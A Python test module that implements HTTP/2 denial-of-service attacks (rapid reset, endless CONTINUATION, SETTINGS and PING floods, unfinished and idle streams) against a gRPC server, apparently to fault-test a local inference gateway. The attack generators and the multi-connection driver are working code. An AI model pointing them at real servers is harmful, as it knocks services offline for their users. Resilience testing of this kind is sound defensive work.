"""`python -m tests.faults.http2_attacks ATTACK ADDRESS SECONDS CONNECTIONS`: attacks a gRPC port with HTTP/2 frames.

It opens a new connection whenever the server closes one, uses a source address of its own, and prints what it has sent.
It is a process of its own, so that it does not slow down the test.
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Callable, Iterator
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS: Final = 4
SOURCE: Final = "127.0.0.2"
"""The source address of attacks, so that they come from another peer than the gateway, which is on 127.0.0.1."""
_LAST_STREAM: Final = 2**31 - 1
_METHOD: Final = "/vilix.inference.v1.InferenceService/Generate"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame of HTTP/2 (RFC 9113)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def header_block(method: str = _METHOD, *fields: tuple[str, str]) -> bytes:
    """Return the headers of a gRPC call as literals of HPACK (RFC 7541)."""
    pseudo = ((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "test"))
    others = (("te", "trailers"), ("content-type", "application/grpc"), *fields)
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in (*pseudo, *others))


def _text(text: str) -> bytes:
    assert len(text) < 127
    return bytes([len(text)]) + text.encode()


def rapid_reset() -> Iterator[bytes]:
    """Begin calls and reset each of them at once, 100 in one write."""
    block = header_block()
    streams = range(1, _LAST_STREAM, 2)
    for batch in _batches(streams, 100):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
            for stream in batch
        )


def unfinished_calls() -> Iterator[bytes]:
    """Begin calls and never finish them."""
    block = header_block()
    for batch in _batches(range(1, _LAST_STREAM, 2), 100):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in batch)


def endless_continuation() -> Iterator[bytes]:
    """Send endless headers of one call."""
    yield frame(HEADERS, 0, 1, header_block())
    field = b"\0" + _text("x" * 100) + _text("y" * 100)
    while True:
        yield frame(CONTINUATION, 0, 1, field * 80) * 10


def settings_flood() -> Iterator[bytes]:
    """Send settings, each of which must be acknowledged."""
    while True:
        yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")) * 1_000


def ping_flood() -> Iterator[bytes]:
    """Send pings, each of which must be acknowledged."""
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 1_000


def idle_connections() -> Iterator[bytes]:
    """Send nothing on a connection."""
    while True:
        yield b""


ATTACKS: Final[dict[str, Callable[[], Iterator[bytes]]]] = {
    attack.__name__: attack
    for attack in (rapid_reset, unfinished_calls, endless_continuation, settings_flood, ping_flood, idle_connections)
}


def _batches(numbers: range, size: int) -> Iterator[range]:
    for first in range(0, len(numbers), size):
        yield numbers[first : first + size]


class Attacker:
    """An attack on one connection at a time, each for as long as the server keeps it open."""

    def __init__(self, name: str, address: str) -> None:
        """Attack the server at `address`, which is HOST:PORT."""
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        self._attack = ATTACKS[name]
        self._connection: socket.socket | None = None
        self._pieces: Iterator[bytes] = iter(())
        self._left = memoryview(b"")
        self.written = self.connections = 0

    def step(self) -> bool:
        """Write as much as the server accepts, and read its replies. Return whether there was progress."""
        try:
            if self._connection is None:
                self._connect()
            assert self._connection is not None
            return self._read(self._connection) | self._write(self._connection)
        except OSError:
            self.close()
            return False

    def close(self) -> None:
        """Close the connection."""
        if self._connection is not None:
            self._connection.close()
            self._connection = None

    def _connect(self) -> None:
        self._connection = socket.create_connection(self._address, timeout=1, source_address=(SOURCE, 0))
        self._connection.settimeout(5)
        self._connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        # The server enforces its limits once they are acknowledged.
        if not self._connection.recv(65536):
            raise ConnectionResetError
        self._connection.sendall(frame(SETTINGS, 1, 0, b""))
        self._connection.setblocking(False)
        self._pieces = self._attack()
        self._left = memoryview(b"")
        self.connections += 1

    def _read(self, connection: socket.socket) -> bool:
        try:
            data = connection.recv(2**20)
        except BlockingIOError:
            return False
        if not data:
            raise ConnectionResetError
        return True

    def _write(self, connection: socket.socket) -> bool:
        if not self._left:
            self._left = memoryview(next(self._pieces))
        try:
            sent = connection.send(self._left)
        except BlockingIOError:
            return False
        self._left = self._left[sent:]
        self.written += sent
        return sent > 0


def main() -> None:
    """Run the attack, and print the bytes sent and the connections opened."""
    name, address, seconds, connections = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
    attackers = [Attacker(name, address) for _ in range(connections)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if not sum(attacker.step() for attacker in attackers):
            time.sleep(0.001)
    for attacker in attackers:
        attacker.close()
    written, opened = sum(a.written for a in attackers), sum(a.connections for a in attackers)
    print(f"{written / 1e6:.0f} MB over {opened} connections", flush=True)


if __name__ == "__main__":
    main()
